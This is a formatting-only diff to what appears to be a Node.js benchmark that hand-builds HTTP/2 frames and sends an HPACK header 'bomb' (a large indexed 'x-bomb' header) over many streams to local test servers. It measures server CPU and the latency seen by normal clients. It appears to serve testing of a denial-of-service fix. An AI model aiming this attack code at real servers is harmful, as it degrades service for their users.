@@ -62,8 +62,14 @@ const SERVERS = {
   ...(flags.before ? { "cog-native-before": cogServer(flags.before.replace(/\/$/, ""), "native") } : {}),
 };
 
-const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, GOAWAY = 7, DATA = 0;
-const END_STREAM = 1, END_HEADERS = 4, ACK = 1;
+const HEADERS = 1,
+  RST_STREAM = 3,
+  SETTINGS = 4,
+  GOAWAY = 7,
+  DATA = 0;
+const END_STREAM = 1,
+  END_HEADERS = 4,
+  ACK = 1;
 const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
 const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
   const head = Buffer.alloc(9);
@@ -81,7 +87,13 @@ function integer(value, bits, mask) {
   out.push(value);
   return out;
 }
-const literal = (name, value, indexed = false) => Buffer.concat([Buffer.from([indexed ? 0x40 : 0x00, ...integer(name.length, 7, 0)]), Buffer.from(name), Buffer.from(integer(value.length, 7, 0)), Buffer.from(value)]);
+const literal = (name, value, indexed = false) =>
+  Buffer.concat([
+    Buffer.from([indexed ? 0x40 : 0x00, ...integer(name.length, 7, 0)]),
+    Buffer.from(name),
+    Buffer.from(integer(value.length, 7, 0)),
+    Buffer.from(value),
+  ]);
 const request = Buffer.concat([literal(":method", "GET"), literal(":scheme", "http"), literal(":authority", "localhost"), literal(":path", "/")]);
 const STORE = Buffer.concat([request, literal("x-bomb", "b".repeat(4000), true)]);
 
@@ -164,7 +176,9 @@ function attack(port, refs, count, ack, tally) {
       while (input.length >= 9) {
         const length = input.readUIntBE(0, 3);
         if (input.length < 9 + length) break;
-        const type = input[3], fl = input[4], id = input.readUInt32BE(5) & 0x7fffffff;
+        const type = input[3],
+          fl = input[4],
+          id = input.readUInt32BE(5) & 0x7fffffff;
         const payload = input.subarray(9, 9 + length);
         input = input.subarray(9 + length);
         if (type === SETTINGS && !(fl & ACK)) {
@@ -194,7 +208,8 @@ const median = (xs) => {
   const s = [...xs].sort((a, b) => a - b);
   return s.length % 2 ? s[(s.length - 1) / 2] : (s[s.length / 2 - 1] + s[s.length / 2]) / 2;
 };
-const describe = (t) => `${t.sent} sent: ${t.answered} answered, resets ${JSON.stringify(t.resets)}, GOAWAY ${JSON.stringify(t.goaways)}, ${t.closed} connections closed by the server`;
+const describe = (t) =>
+  `${t.sent} sent: ${t.answered} answered, resets ${JSON.stringify(t.resets)}, GOAWAY ${JSON.stringify(t.goaways)}, ${t.closed} connections closed by the server`;
 
 /** CPU per bomb stream: `streams` bombs over connections of `perConnection`. */
 async function costRound(server, refs, streams, perConnection, ack) {
@@ -251,7 +266,9 @@ const names = flags.servers.split(",").concat(flags.before && !flags.servers.inc
 const refsList = flags.refs.split(",").map(Number);
 const rounds = Number(flags.rounds);
 const ack = flags.ack !== "no";
-console.log(`node ${process.version}; servers ${names.join(", ")}; refs ${refsList.join(", ")}; ${flags.impact ? `impact: ${flags.attackers} attackers, ${flags.duration} s` : `${flags.streams} streams, ${flags["per-connection"]} a connection`}; ${rounds} rounds; settings ${ack ? "acknowledged" : "never acknowledged"}`);
+console.log(
+  `node ${process.version}; servers ${names.join(", ")}; refs ${refsList.join(", ")}; ${flags.impact ? `impact: ${flags.attackers} attackers, ${flags.duration} s` : `${flags.streams} streams, ${flags["per-connection"]} a connection`}; ${rounds} rounds; settings ${ack ? "acknowledged" : "never acknowledged"}`,
+);
 const results = {};
 for (let round = 0; round < rounds; round++) {
   // Rotated each round, so that no server always goes first.
@@ -265,7 +282,9 @@ for (let round = 0; round < rounds; round++) {
           ? await impactRound(server, refs, Number(flags.duration), Number(flags.attackers), Number(flags["per-connection"]), ack)
           : await costRound(server, refs, Number(flags.streams), Number(flags["per-connection"]), ack);
         (results[key] ??= []).push(r);
-        console.log(`round ${round + 1} ${key}: ${flags.impact ? `cpu ${(r.cpu * 100).toFixed(0)}%, normal client p50 ${r.loud.p50.toFixed(2)} ms max ${r.loud.max.toFixed(1)} ms (quiet: p50 ${r.quiet.p50.toFixed(2)} max ${r.quiet.max.toFixed(1)})` : `${r.us.toFixed(1)} µs/stream`}; ${describe(r.tally)}`);
+        console.log(
+          `round ${round + 1} ${key}: ${flags.impact ? `cpu ${(r.cpu * 100).toFixed(0)}%, normal client p50 ${r.loud.p50.toFixed(2)} ms max ${r.loud.max.toFixed(1)} ms (quiet: p50 ${r.quiet.p50.toFixed(2)} max ${r.quiet.max.toFixed(1)})` : `${r.us.toFixed(1)} µs/stream`}; ${describe(r.tally)}`,
+        );
       }
     } finally {
       server.stop();
@@ -275,7 +294,9 @@ for (let round = 0; round < rounds; round++) {
 console.log("\nmedians over rounds:");
 for (const [key, rs] of Object.entries(results)) {
   if (flags.impact) {
-    console.log(`${key}: server cpu ${(median(rs.map((r) => r.cpu)) * 100).toFixed(0)}% of a core; normal client p50 ${median(rs.map((r) => r.loud.p50)).toFixed(2)} ms, max ${median(rs.map((r) => r.loud.max)).toFixed(1)} ms (quiet: p50 ${median(rs.map((r) => r.quiet.p50)).toFixed(2)}, max ${median(rs.map((r) => r.quiet.max)).toFixed(1)}); bombs sent ${median(rs.map((r) => r.tally.sent))}`);
+    console.log(
+      `${key}: server cpu ${(median(rs.map((r) => r.cpu)) * 100).toFixed(0)}% of a core; normal client p50 ${median(rs.map((r) => r.loud.p50)).toFixed(2)} ms, max ${median(rs.map((r) => r.loud.max)).toFixed(1)} ms (quiet: p50 ${median(rs.map((r) => r.quiet.p50)).toFixed(2)}, max ${median(rs.map((r) => r.quiet.max)).toFixed(1)}); bombs sent ${median(rs.map((r) => r.tally.sent))}`,
+    );
   } else {
     console.log(`${key}: ${median(rs.map((r) => r.us)).toFixed(1)} µs/stream (rounds: ${rs.map((r) => r.us.toFixed(0)).join(", ")})`);
   }
